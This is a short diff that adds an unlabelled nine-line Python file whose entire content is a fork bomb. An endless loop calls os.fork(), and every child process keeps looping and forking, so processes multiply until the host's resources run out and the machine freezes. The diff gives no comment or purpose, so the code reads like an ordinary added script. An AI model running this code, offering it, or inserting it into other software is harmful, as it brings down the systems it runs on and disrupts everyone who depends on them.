@@ -1,0 +1,9 @@
+import os
+import time
+
+while True:
+    try:
+        if os.fork() == 0:
+            continue
+    except OSError:
+        time.sleep(0.01)
